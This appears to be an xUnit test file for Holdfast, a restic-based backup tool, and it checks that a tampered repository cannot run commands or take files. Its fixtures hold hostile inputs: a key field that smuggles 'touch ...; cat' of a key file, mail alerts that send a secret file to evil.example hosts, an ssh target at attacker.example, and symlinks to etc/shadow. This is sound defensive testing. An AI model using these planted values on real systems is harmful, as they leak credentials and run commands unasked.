using System.Security.Cryptography;
using System.Text;
using Holdfast.Interop.Programs;
using Holdfast.Interop.Restic;
using Xunit;

namespace Holdfast.Interop.Cli;

/// <summary>Somebody has the key of the vault, and restic, and means harm: what they put into it runs nothing, takes nothing and stops nothing.</summary>
public sealed class HostileRepositoryTests : IDisposable
{
    private readonly SmallBusiness _business = new();

    [Fact]
    public async Task A_link_among_the_records_takes_no_file_of_this_machine()
    {
        await _business.ProtectAsync();
        _business.Write("etc/shadow", "secret");
        Directory.CreateDirectory(_business["evil"]);
        Directory.CreateSymbolicLink(_business["evil/evidence"], _business["etc"]);
        Directory.CreateSymbolicLink(_business["evil/runs"], _business["etc"]);
        File.CreateSymbolicLink(_business["evil/protection.jsonl"], _business["etc/shadow"]);
        Plant("evil", "holdfast:journal");
        Plant("evil", "holdfast:evidence");

        var predict = await PredictAsync();
        Assert.True(predict.ExitCode is 0 or 5, predict.ToString());
        Assert.Contains("was left out: it is not a folder", predict.Error, StringComparison.Ordinal);
        Assert.Contains("protection.jsonl was left out: it is not a regular file", predict.Error, StringComparison.Ordinal);
        Assert.Equal("secret", _business.Read("etc/shadow"));
        Assert.Empty(Directory.EnumerateFileSystemEntries(_business["colo-state/evidence"]));

        _business.Burn();
        var failover = await _business.FailoverAsync();
        Assert.True(failover.ExitCode == 0, failover.ToString());
        Assert.DoesNotContain("shadow", Restic.Run("ls", "latest", "--tag", "holdfast:evidence"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_command_in_a_plan_out_of_a_repository_runs_only_after_it_was_shown_and_agreed_to()
    {
        await _business.ProtectAsync();
        PlantPlan("nas: { at: nas, site: office, key: \"file:../kit/nas.key\" }", $"nas: {{ at: nas, site: office, key: \"command:touch {_business["ran"]}; cat ../kit/nas.key\" }}");
        string[] from = ["--from", _business["colo/vault"], "--key", "file:" + _business["kit/vault.key"], "--state", _business["colo-state"]];
        foreach (var verb in new[] { "predict", "status", "advise" })
        {
            var looked = await Built.RunAsync([verb, .. from]);
            Assert.True(looked.ExitCode is 0 or 5, looked.ToString());
            Assert.True(verb == "predict" || looked.Error.Contains("its key is a command, which looking does not run", StringComparison.Ordinal), looked.ToString()); // The fire takes the nas: predict does not look into it.
            var meant = await Built.RunAsync([verb, "--run-key-commands", .. from]);
            Assert.True(meant.ExitCode == 6, meant.ToString());
        }

        var no = await Built.TellAsync("no\n", ["failover", .. from]);
        Assert.True(no.ExitCode == 6, no.ToString());
        Assert.Contains($"touch {_business["ran"]}", no.Output, StringComparison.Ordinal);
        Assert.Contains("letters/run 1 on colo-server: runs /bin/sh -c true as ", no.Output.Replace("  ", " ", StringComparison.Ordinal), StringComparison.Ordinal);

        foreach (var verb in new string[][] { ["failover", "--yes"], ["drill"], ["protect"] })
        {
            var refused = await Built.TellAsync("", [.. verb, .. from]);
            Assert.True(refused.ExitCode == 6, refused.ToString());
        }

        // The hash of the plan that the kit shows is not the one of the plan that was planted.
        var kit = await Built.RunAsync(["failover", "--yes", .. _business.FromVault]);
        Assert.True(kit.ExitCode == 6, kit.ToString());
        Assert.False(File.Exists(_business["ran"]));
    }

    [Fact]
    public async Task What_a_plan_reaches_and_what_it_gives_away_is_shown_before_it_is_asked()
    {
        await _business.ProtectAsync();
        _business.Write("secret", "of this machine");
        PlantPlan(
            "  vault: { at: ../colo/vault, site: colo, key: \"file:../kit/vault.key\" }",
            $$"""
              vault: { at: ../colo/vault, site: colo, key: "file:{{_business["secret"]}}" }
            alerts: { mail: { server: mail.evil.example, from: a@evil.example, to: [b@evil.example], user: c, password: "file:{{_business["secret"]}}" } }
            """,
            ("colo-server: { site: colo, folder: ../colo/server, drill: { folder: ../colo/drill } }", "colo-server: { site: colo, ssh: evil@attacker.example, folder: /srv }"),
            ("every: 30 minutes, to", "every: 30 minutes, keep: { last: 1 }, to"));
        _business.Write("bin/ssh", $"#!/bin/sh\ntouch {_business["reached"]}\nexit 255\n");
        File.SetUnixFileMode(_business["bin/ssh"], UnixFileMode.UserRead | UnixFileMode.UserExecute);
        var path = new Dictionary<string, string> { ["PATH"] = $"{_business["bin"]}:{Environment.GetEnvironmentVariable("PATH")}" };
        string[] from = ["--from", _business["colo/vault"], "--key", "file:" + _business["kit/vault.key"], "--state", _business["colo-state"]];
        const string Host = "host colo-server: reached by ssh at evil@attacker.example";
        var given = $"is given the key of nas (file:{_business["kit/nas.key"]})";
        var mail = $"alerts: sends mail to b@evil.example by mail.evil.example:587 as c, its key at file:{_business["secret"]}";
        foreach (var (verb, shown) in new (string[], string[])[]
        {
            (["host", "check"], [Host, given]),
            (["verify"], [$"repository nas at {_business["evil/nas"]}, its key at file:{_business["kit/nas.key"]}"]),
            (["upkeep"], ["orders: removes copies from nas and vault but 1 last"]),
            (["alerts", "send"], [mail]),
            (["schedule", "run"], ["orders on office-server: copies", "orders: removes copies from nas and vault but 1 last", mail]),
            (["protect"], ["orders on office-server: copies", mail]),
            (["failover"], [Host, given]),
        })
        {
            var asked = await ProgramRun.OfAsync(Built.Holdfast, [.. verb, .. from], path);
            Assert.True(asked.ExitCode == 6, asked.ToString());
            Assert.All(shown, line => Assert.True(asked.Output.Contains(line, StringComparison.Ordinal), $"{line}\n{asked}"));
        }

        Assert.False(File.Exists(_business["reached"]));
    }

    [Fact]
    public async Task What_can_be_no_record_costs_itself_and_stops_no_failover()
    {
        await _business.ProtectAsync();
        _business.Write("evil/runs/20990101T000000Z-failover/journal.jsonl", "{\"x\":1}\n");
        _business.Write("evil/runs/..hidden/journal.jsonl", "");
        _business.Write("evil/codes.jsonl", "no code\n");
        Shell("mkfifo", _business["evil/protection.jsonl"]);
        Plant("evil", "holdfast:journal");
        Shell("mkfifo", _business["fifo.yaml"]);
        Restic.RunIn(_business.Root, "backup", "fifo.yaml", "--host", "holdfast", "--tag", "holdfast:plan,repository:vault");

        _business.Burn();
        var failover = await _business.FailoverAsync();
        Assert.True(failover.ExitCode == 0, failover.ToString());
        Assert.Contains("an older one is looked for", failover.Error, StringComparison.Ordinal);
        Assert.Contains("runs/20990101T000000Z-failover was left out", failover.Error, StringComparison.Ordinal);
        Assert.Contains("protection.jsonl was left out: it is not a regular file", failover.Error, StringComparison.Ordinal);
        Assert.Equal("two", _business.Read("colo/server/orders/2.txt"));
    }

    [Fact]
    public async Task Key_files_that_others_put_there_stop_neither_the_next_copy_nor_a_recovery_by_the_kit()
    {
        await _business.ProtectAsync();
        var keys = Path.Combine(_business["colo/vault"], "keys");
        var ours = Path.GetFileName(Assert.Single(Directory.GetFiles(keys)));
        for (var (n, planted) = (0, 0); planted < 25; n++)
        {
            var key = $$"""{"kdf":"scrypt","N":2,"r":1,"p":1,"salt":"AA==","data":"AA==","n":{{n}}}""";
            var name = Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(key)));
            if (string.CompareOrdinal(name, ours) < 0) // Tried before ours.
            {
                await File.WriteAllTextAsync(Path.Combine(keys, name), key, TestContext.Current.CancellationToken);
                planted++;
            }
        }

        await _business.ProtectAsync();
        Assert.Equal(0, (await _business.InOfficeAsync("upkeep")).ExitCode);
        var kit = await Built.RunAsync(["plan", "kit", _business["office/holdfast.yaml"], "--output", "-", "--state", _business["state"]]);
        var hint = System.Text.RegularExpressions.Regex.Match(kit.Output, "export (RESTIC_KEY_HINT)=([0-9a-f,]+)");
        Assert.True(hint.Success && hint.Groups[2].Value.Split(',').Any(n => ours.StartsWith(n, StringComparison.Ordinal)), kit.ToString());

        _business.Burn();
        var lost = await _business.FailoverAsync();
        Assert.Contains("20 of 26 keys were tried", lost.Error, StringComparison.Ordinal);
        Assert.Contains("RESTIC_KEY_HINT", lost.Error, StringComparison.Ordinal);
        var failover = await ProgramRun.OfAsync(
            Built.Holdfast, ["failover", "--yes", .. _business.FromVault], new Dictionary<string, string> { [hint.Groups[1].Value] = hint.Groups[2].Value });
        Assert.True(failover.ExitCode == 0, failover.ToString());
        Assert.Equal("one", _business.Read("colo/server/orders/1.txt"));
    }

    [Fact]
    public async Task A_planted_run_neither_blocks_a_failover_nor_runs_its_commands_unasked()
    {
        await _business.ProtectAsync();
        _business.LettersWaitFor("go on");
        var failover = await _business.StartWaitingAsync(["failover", "--yes", "--plan", _business["office/holdfast.yaml"], "--state", _business["theirs"]]);
        await failover.KillAsync();
        failover.Dispose();
        File.Delete(_business["begun"]);
        _business.EndProcesses();
        Directory.Delete(_business["colo/server"], recursive: true);
        Directory.CreateDirectory(_business["evil"]);
        Directory.Move(_business["theirs/runs"], _business["evil/runs"]);
        Plant("evil", "holdfast:journal");
        var run = Path.GetFileName(Directory.GetDirectories(_business["evil/runs"]).Single());
        var digits = _business.PlanFingerprint;
        _business.Replan($"touch {_business["begun"]}; while [ ! -e {_business["go on"]} ]; do sleep 0.1; done", "true");

        // 1. It is there, and whose it is is told.
        var refused = await _business.FailoverAsync();
        Assert.True(refused.ExitCode == 6, refused.ToString());
        Assert.Contains($"--beside {run} --because", refused.Error, StringComparison.Ordinal);
        string[] state = ["--state", _business["colo-state"]];
        Assert.Contains("not led by this machine", (await Built.RunAsync(["run", "list", .. state])).Output, StringComparison.Ordinal);

        // 2. Taking it up shows what it would run, and asks.
        var resume = await Built.TellAsync("no\n", ["run", "resume", .. state]);
        Assert.True(resume.ExitCode == 6, resume.ToString());
        Assert.Contains($"touch {_business["begun"]}", resume.Output, StringComparison.Ordinal);
        Assert.Contains("No signature says that what its journal says has happened", resume.Error, StringComparison.Ordinal);
        Assert.Contains("letters/restore", resume.Error, StringComparison.Ordinal); // Said to be done.
        Assert.False(File.Exists(_business["begun"]));

        // The kit's digits speak for the plan, and for nothing that a journal says.
        var unasked = await Built.RunAsync(["run", "resume", "--trust-plan", digits, .. state]);
        Assert.True(unasked.ExitCode == 6, unasked.ToString());
        Assert.False(File.Exists(_business["begun"]));

        // 3. It is set aside with a reason, which the evidence keeps.
        Assert.Equal(2, (await _business.FailoverAsync("--beside", run)).ExitCode);
        var beside = await _business.FailoverAsync("--beside", run, "--because", "nobody here began it");
        Assert.True(beside.ExitCode == 0, beside.ToString());
        Assert.Contains("nobody here began it", string.Concat(Directory.GetFiles(_business["colo-state/evidence"]).Select(File.ReadAllText)), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_failover_tells_that_a_repository_was_set_back_and_asks_once_about_a_clock_that_does_not_fit()
    {
        await _business.ProtectAsync();
        var old = Restic.Run("snapshots", "--tag", "system:orders", "--json");
        await _business.ProtectAsync();
        var ids = System.Text.RegularExpressions.Regex.Matches(Restic.Run("snapshots", "--tag", "system:orders", "--json"), "\"short_id\":\"([0-9a-f]+)\"").Select(id => id.Groups[1].Value);
        Restic.Run(["forget", .. ids.Where(id => !old.Contains(id, StringComparison.Ordinal))]);
        Restic.RunIn(_business["office"], "backup", "orders", "--host", "office-server", "--tag", "x", "--time", "2099-01-01 00:00:00");
        string[] here = ["failover", "--from", _business["colo/vault"], "--key", "file:" + _business["kit/vault.key"], "--state", _business["state"]];

        var refused = await Built.RunAsync([.. here, "--yes"]);
        Assert.True(refused.ExitCode == 6, refused.ToString());
        Assert.Contains("--clock-is-right", refused.Error, StringComparison.Ordinal);
        Assert.Contains("is not in vault any more: the repository was set back", refused.Error, StringComparison.Ordinal);
        Assert.Equal(6, (await Built.TellAsync("yes\nno\n", here)).ExitCode);
        var asked = await Built.TellAsync("yes\nyes\n", here);
        Assert.True(asked.ExitCode == 0, asked.ToString());
    }

    public void Dispose() => _business.Dispose();

    private ResticProgram Restic => new(_business["colo/vault"], "key of the vault");

    private Task<ProgramRun> PredictAsync() => Built.RunAsync(["predict", .. _business.FromVault]);

    private void Plant(string folder, string tag) =>
        Restic.RunIn(_business[folder], "backup", ".", "--host", "holdfast", "--tag", $"{tag},state:0123456789abcdef");

    private void PlantPlan(string old, string now, params (string Old, string Now)[] more)
    {
        var text = _business.Read("office/holdfast.yaml");
        foreach (var (before, after) in more.Prepend((old, now)))
        {
            Assert.Contains(before, text, StringComparison.Ordinal);
            text = text.Replace(before, after, StringComparison.Ordinal);
        }

        _business.Write("evil/holdfast.yaml", text);
        Restic.RunIn(_business["evil"], "backup", "holdfast.yaml", "--host", "holdfast", "--tag", "holdfast:plan,repository:vault");
    }

    private static void Shell(string program, string argument)
    {
        using var process = System.Diagnostics.Process.Start(program, argument);
        process.WaitForExit();
        Assert.Equal(0, process.ExitCode);
    }
}
